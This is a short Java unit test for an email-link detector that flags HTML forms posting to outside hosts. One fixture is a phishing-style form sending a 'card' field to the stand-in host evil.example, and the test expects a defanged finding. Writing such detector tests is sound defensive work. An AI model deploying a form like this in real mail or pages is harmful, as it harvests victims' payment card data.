package kanshiki.link;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class FormInMailTest {
  @Test
  void formThatPostsElsewhere() {
    assertThat(
            LinkMails.inHtml(
                "<form action=\"https://evil.example/post.php\"><input name=\"card\"><button>送信</button></form>",
                new FormInMail()))
        .containsExactly("form-in-mail evil[.]example");
  }

  @Test
  void staysQuietOnAFormWithoutTarget() {
    assertThat(LinkMails.inHtml("<form><input name=\"q\"></form>", new FormInMail())).isEmpty();
  }
}
